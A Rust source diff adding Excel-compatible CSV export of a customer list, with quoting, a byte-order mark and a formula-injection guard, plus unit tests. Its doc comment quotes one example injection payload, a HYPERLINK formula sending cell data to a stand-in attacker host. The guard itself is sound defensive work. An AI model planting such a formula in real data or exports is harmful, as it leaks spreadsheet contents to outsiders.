@@ -1,0 +1,373 @@
+//! Excel-compatible CSV export of the customer list.
+//!
+//! The files follow the "Excel preset":
+//!
+//! - **RFC 4180**, quoting only where needed: a field is quoted when it holds a comma, a
+//!   double quote, CR or LF, and a double quote inside it is doubled. Lines end in CRLF.
+//! - **UTF-8 with a byte-order mark** ([`BOM`]). Without it Excel reads the file in the
+//!   system's legacy code page and shows "SociÃ©tÃ©"; with it Excel and LibreOffice show
+//!   accents and CJK correctly.
+//! - **Formula-injection guard** (OWASP "CSV Injection"). A spreadsheet evaluates a cell that
+//!   starts with `=`, `+`, `-` or `@` as a formula, and TAB, CR or LF in first place can smuggle
+//!   one past a quick look; a customer named `=HYPERLINK("http://evil.example?"&A1, "Click")`
+//!   would otherwise leak data when the export is opened. So a TEXT cell whose first character
+//!   is one of `=` `+` `-` `@` TAB CR LF gets a leading apostrophe `'`, which spreadsheets take
+//!   as "show as text". Numbers are never altered: `-5` stays a number.
+//!
+//! ```
+//! use clientele_domain::export::{write_csv, Cell, BOM};
+//! let csv = write_csv(&["Name", "Seats"], [vec![Cell::Text("=1+1"), Cell::Number(-5)]]);
+//! assert_eq!(String::from_utf8(csv).unwrap(), format!("{BOM}Name,Seats\r\n'=1+1,-5\r\n"));
+//! ```
+
+use std::borrow::Cow;
+use std::collections::HashMap;
+
+use crate::model::{Customer, Reseller, ResellerId};
+
+/// The UTF-8 byte-order mark that every export starts with.
+pub const BOM: &str = "\u{FEFF}";
+
+/// One cell of a row.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Cell<'a> {
+    /// Written guarded by [`neutralize`].
+    Text(&'a str),
+    /// Written as it is.
+    Number(i64),
+}
+
+/// The first characters that make a spreadsheet read a text cell as a formula.
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];
+
+/// The guarded form of a text cell: a leading apostrophe when it starts like a formula.
+pub fn neutralize(cell: &str) -> Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// BOM + header + rows; every row has header.len() cells. Header cells are guarded like text.
+///
+/// # Panics
+///
+/// If a row does not have as many cells as the header: that is a bug in the caller, and a
+/// ragged file would put values under the wrong column.
+pub fn write_csv<'a, I>(header: &[&str], rows: I) -> Vec<u8>
+where
+    I: IntoIterator<Item = Vec<Cell<'a>>>,
+{
+    let rows = rows.into_iter();
+    let mut sheet = Sheet::new(rows.size_hint().0, header.len() * 16);
+    sheet.row(header.iter().map(|h| Cell::Text(h)));
+    for row in rows {
+        assert_eq!(
+            row.len(),
+            header.len(),
+            "every CSV row has as many cells as the header"
+        );
+        sheet.row(row);
+    }
+    sheet.finish()
+}
+
+pub const CUSTOMER_COLUMNS: [&str; 5] = [
+    "Customer ID",
+    "Company name",
+    "Primary domain name",
+    "Relationship",
+    "Indirect reseller",
+];
+
+/// The customer list as CSV, rows in the order given. "Relationship" is
+/// [`Relationship::label`](crate::model::Relationship::label); "Indirect reseller" is the
+/// reseller's NAME (as [`reseller_name`](crate::model::reseller_name) gives it), empty for
+/// direct customers.
+pub fn customers_csv<'a>(
+    customers: impl IntoIterator<Item = &'a Customer>,
+    resellers: &[Reseller],
+) -> Vec<u8> {
+    // A map, not reseller_name's scan, so a partner with many resellers exports as fast.
+    // The first entry wins for a repeated ID, as it does in reseller_name.
+    let mut names: HashMap<&ResellerId, &str> = HashMap::with_capacity(resellers.len());
+    for r in resellers {
+        names.entry(&r.id).or_insert(r.name.as_str());
+    }
+    let customers = customers.into_iter();
+    let mut sheet = Sheet::new(customers.size_hint().0, CUSTOMER_ROW_BYTES);
+    sheet.row(CUSTOMER_COLUMNS.map(Cell::Text));
+    for c in customers {
+        let reseller = c
+            .reseller_id
+            .as_ref()
+            .and_then(|id| names.get(id).copied())
+            .unwrap_or("");
+        sheet.row([
+            Cell::Text(c.id.as_str()),
+            Cell::Text(&c.company_name),
+            Cell::Text(&c.primary_domain),
+            Cell::Text(c.relationship.label()),
+            Cell::Text(reseller),
+        ]);
+    }
+    sheet.finish()
+}
+
+/// A typical customer row: a 36-character ID, a name, a domain, a label and a reseller.
+const CUSTOMER_ROW_BYTES: usize = 150;
+
+/// "customers-2026-11-21.csv" for date "2026-11-21".
+pub fn customers_file_name(date: &str) -> String {
+    format!("customers-{date}.csv")
+}
+
+/// A CSV file being written to memory, BOM first.
+struct Sheet(csv::Writer<Vec<u8>>);
+
+impl Sheet {
+    fn new(rows: usize, row_bytes: usize) -> Self {
+        // Sized up front so a 100,000-row export doesn't copy its buffer a dozen times.
+        let mut buffer = Vec::with_capacity(BOM.len() + (rows + 1) * row_bytes);
+        buffer.extend_from_slice(BOM.as_bytes());
+        let writer = csv::WriterBuilder::new()
+            .terminator(csv::Terminator::CRLF)
+            .quote_style(csv::QuoteStyle::Necessary)
+            .from_writer(buffer);
+        Self(writer)
+    }
+
+    fn row<'a>(&mut self, cells: impl IntoIterator<Item = Cell<'a>>) {
+        self.0
+            .write_record(cells.into_iter().map(Guarded::from))
+            .expect("rows of equal length write to memory");
+    }
+
+    fn finish(self) -> Vec<u8> {
+        match self.0.into_inner() {
+            Ok(bytes) => bytes,
+            Err(_) => unreachable!("flushing into a Vec cannot fail"),
+        }
+    }
+}
+
+/// A cell as written: text guarded, numbers in decimal.
+struct Guarded<'a>(Cow<'a, str>);
+
+impl<'a> From<Cell<'a>> for Guarded<'a> {
+    fn from(cell: Cell<'a>) -> Self {
+        match cell {
+            Cell::Text(text) => Self(neutralize(text)),
+            Cell::Number(n) => Self(Cow::Owned(n.to_string())),
+        }
+    }
+}
+
+impl AsRef<[u8]> for Guarded<'_> {
+    fn as_ref(&self) -> &[u8] {
+        self.0.as_bytes()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::{Address, Contact, CustomerId, Relationship};
+
+    fn text(bytes: Vec<u8>) -> String {
+        String::from_utf8(bytes).unwrap()
+    }
+
+    /// The file without its BOM.
+    fn body(bytes: Vec<u8>) -> String {
+        text(bytes).strip_prefix(BOM).unwrap().to_string()
+    }
+
+    fn one_cell(cell: &str) -> String {
+        body(write_csv(&["h"], [vec![Cell::Text(cell)]]))
+    }
+
+    fn customer(name: &str, reseller_id: Option<ResellerId>) -> Customer {
+        Customer {
+            id: CustomerId::from_u128(1),
+            company_name: name.into(),
+            primary_domain: "contoso.com".into(),
+            relationship: Relationship::ResellerWithDelegatedAdmin,
+            reseller_id,
+            billing_address: Address::default(),
+            primary_contact: Contact::default(),
+            created_at: "2026-01-01T00:00:00Z".into(),
+        }
+    }
+
+    fn northwind() -> Reseller {
+        Reseller {
+            id: ResellerId::from_u128(7),
+            name: "Northwind, Ltd".into(),
+        }
+    }
+
+    #[test]
+    fn bom_comes_first() {
+        assert!(write_csv(&["a"], []).starts_with(BOM.as_bytes()));
+    }
+
+    #[test]
+    fn lines_end_in_crlf() {
+        let csv = body(write_csv(&["a", "b"], [vec![Cell::Text("x"), Cell::Number(1)]]));
+        assert_eq!(csv, "a,b\r\nx,1\r\n");
+    }
+
+    #[test]
+    fn plain_text_is_not_quoted() {
+        assert_eq!(one_cell("Société Générale"), "h\r\nSociété Générale\r\n");
+    }
+
+    #[test]
+    fn comma_is_quoted() {
+        assert_eq!(one_cell("Durand, Martin"), "h\r\n\"Durand, Martin\"\r\n");
+    }
+
+    #[test]
+    fn quote_is_doubled_and_quoted() {
+        assert_eq!(
+            one_cell("\"Blue\" Labs"),
+            "h\r\n\"\"\"Blue\"\" Labs\"\r\n"
+        );
+    }
+
+    #[test]
+    fn newline_is_quoted() {
+        assert_eq!(one_cell("A GmbH\nBremen"), "h\r\n\"A GmbH\nBremen\"\r\n");
+    }
+
+    #[test]
+    fn carriage_return_is_quoted() {
+        assert_eq!(one_cell("A\rB"), "h\r\n\"A\rB\"\r\n");
+    }
+
+    #[test]
+    fn empty_single_cell_row_is_kept() {
+        assert_eq!(one_cell(""), "h\r\n\"\"\r\n");
+    }
+
+    #[test]
+    fn every_formula_start_is_guarded() {
+        for start in FORMULA_STARTS {
+            let cell = format!("{start}cmd");
+            assert_eq!(neutralize(&cell), format!("'{cell}"), "{start:?}");
+        }
+    }
+
+    #[test]
+    fn equals_is_guarded() {
+        assert_eq!(neutralize("=HYPERLINK(\"x\")"), "'=HYPERLINK(\"x\")");
+    }
+
+    #[test]
+    fn plus_is_guarded() {
+        assert_eq!(neutralize("+Plus Consulting"), "'+Plus Consulting");
+    }
+
+    #[test]
+    fn minus_is_guarded() {
+        assert_eq!(neutralize("-2+3"), "'-2+3");
+    }
+
+    #[test]
+    fn at_is_guarded() {
+        assert_eq!(neutralize("@SUM(A1)"), "'@SUM(A1)");
+    }
+
+    #[test]
+    fn tab_is_guarded() {
+        assert_eq!(neutralize("\t=1"), "'\t=1");
+    }
+
+    #[test]
+    fn carriage_return_first_is_guarded() {
+        assert_eq!(neutralize("\r=1"), "'\r=1");
+    }
+
+    #[test]
+    fn line_feed_first_is_guarded() {
+        assert_eq!(neutralize("\n=1"), "'\n=1");
+    }
+
+    #[test]
+    fn formula_character_later_is_left_alone() {
+        assert!(matches!(neutralize("A=B"), Cow::Borrowed("A=B")));
+    }
+
+    #[test]
+    fn guarded_cell_is_quoted_when_needed() {
+        assert_eq!(one_cell("=A1,B1"), "h\r\n\"'=A1,B1\"\r\n");
+    }
+
+    #[test]
+    fn negative_number_is_not_guarded() {
+        let csv = body(write_csv(&["n"], [vec![Cell::Number(-42)]]));
+        assert_eq!(csv, "n\r\n-42\r\n");
+    }
+
+    #[test]
+    fn header_is_guarded_too() {
+        assert_eq!(body(write_csv(&["=x"], [])), "'=x\r\n");
+    }
+
+    #[test]
+    #[should_panic(expected = "as many cells as the header")]
+    fn ragged_row_is_a_bug() {
+        write_csv(&["a", "b"], [vec![Cell::Number(1)]]);
+    }
+
+    #[test]
+    fn customer_header_is_exact() {
+        let csv = body(customers_csv([], &[]));
+        assert_eq!(
+            csv,
+            "Customer ID,Company name,Primary domain name,Relationship,Indirect reseller\r\n"
+        );
+    }
+
+    #[test]
+    fn customer_row_names_the_reseller() {
+        let c = customer("Contoso", Some(northwind().id));
+        let csv = body(customers_csv([&c], &[northwind()]));
+        assert_eq!(
+            csv.split("\r\n").nth(1).unwrap(),
+            "00000000-0000-0000-0000-000000000001,Contoso,contoso.com,\
+             \"Reseller, delegated admin\",\"Northwind, Ltd\""
+        );
+    }
+
+    #[test]
+    fn direct_customer_has_no_reseller_name() {
+        let c = customer("Contoso", None);
+        let csv = body(customers_csv([&c], &[northwind()]));
+        assert!(csv.ends_with(",contoso.com,\"Reseller, delegated admin\",\r\n"));
+    }
+
+    #[test]
+    fn customer_name_is_guarded() {
+        let c = customer("+Plus Consulting", None);
+        let csv = body(customers_csv([&c], &[]));
+        assert!(csv.contains(",'+Plus Consulting,"));
+    }
+
+    #[test]
+    fn customer_rows_keep_the_given_order() {
+        let (a, b) = (customer("Beta", None), customer("Alpha", None));
+        let csv = body(customers_csv([&a, &b], &[]));
+        assert!(csv.find("Beta").unwrap() < csv.find("Alpha").unwrap());
+    }
+
+    #[test]
+    fn file_name_has_the_date() {
+        assert_eq!(
+            customers_file_name("2026-11-21"),
+            "customers-2026-11-21.csv"
+        );
+    }
+}
